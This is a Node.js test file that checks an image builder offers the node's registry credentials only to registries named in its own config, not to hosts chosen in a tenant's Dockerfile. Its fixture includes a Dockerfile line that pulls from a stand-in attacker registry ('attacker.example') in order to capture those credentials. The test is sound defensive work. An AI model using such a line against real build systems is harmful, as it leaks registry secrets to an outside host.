import assert from 'node:assert/strict';
import { test } from 'node:test';
import { credentialHostsOf, parseDockerfile } from '@dsec/images';
import { credentialHosts } from './image-builder.js';

// Attack on API builds (adversarial review of h/imgbuild): a tenant's Dockerfile names the
// registry; the node's DSEC_REGISTRY_USERNAME/PASSWORD must not be sent to a host it picks.

const DOCKERFILE = [
  'FROM attacker.example:443/steal:1 AS one',
  'FROM Registry.Lab:5000/base:1 AS two',
  'FROM localhost/x:1',
  'FROM one',
  'FROM debian:12',
].join('\n');

test("an API build's FROM gets the node's registry credentials only for registries the node's config names", () => {
  const allowed = credentialHosts({
    insecure: ['registry.lab:5000'],
    mirrors: { 'docker.io': ['mirror.lab:5000/hub', 'mirror2.lab'] },
  });
  assert.deepEqual(allowed.sort(), [
    'docker.io',
    'mirror.lab:5000',
    'mirror2.lab',
    'registry.lab:5000',
  ]);
  const parsed = parseDockerfile(DOCKERFILE);
  assert.deepEqual([...credentialHostsOf(parsed, allowed)], ['Registry.Lab:5000']);
  assert.deepEqual([...credentialHostsOf(parsed, [])], []);
  // The operator's own build (`dsec image build`) keeps sending them wherever its FROM names.
  assert.deepEqual([...credentialHostsOf(parsed)].sort(), [
    'Registry.Lab:5000',
    'attacker.example:443',
    'localhost',
  ]);
});
